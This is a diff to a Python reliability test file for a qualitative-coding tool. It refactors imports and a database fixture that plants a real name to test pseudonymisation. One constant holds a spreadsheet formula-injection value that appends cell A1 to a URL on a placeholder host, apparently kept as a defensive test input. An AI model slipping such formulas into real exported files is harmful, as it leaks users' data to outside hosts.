@@ -8,7 +8,6 @@ import random
 import resource
 import shutil
 import signal
-import sqlite3
 import subprocess
 import sys
 import textwrap
@@ -20,7 +19,13 @@ import docx
 import openpyxl
 import pytest
 
-from tests.reliability.conftest import assert_one_line_error, cli_env, run_qualcode, start_qualcode
+from tests.reliability.conftest import (
+    assert_one_line_error,
+    cli_env,
+    connected,
+    run_qualcode,
+    start_qualcode,
+)
 
 ORIGINAL = "Hilde Berg"
 HYPERLINK = '=HYPERLINK("http://example.invalid/"&A1)'
@@ -77,9 +82,8 @@ def text_of(path: Path) -> str:
 
 def plant_original(root: Path) -> None:
     """Put the original name into the stored quotes behind the pseudonymiser's back, as a bug might."""
-    with sqlite3.connect(root / ".qualcode" / "project.db") as connection:
+    with connected(root / ".qualcode" / "project.db") as connection:
         connection.execute("UPDATE codings SET excerpt = excerpt || ?", (f" {ORIGINAL}",))
-    connection.close()
 
 
 def folder_state(folder: Path) -> dict[str, tuple[int, int, int]]:
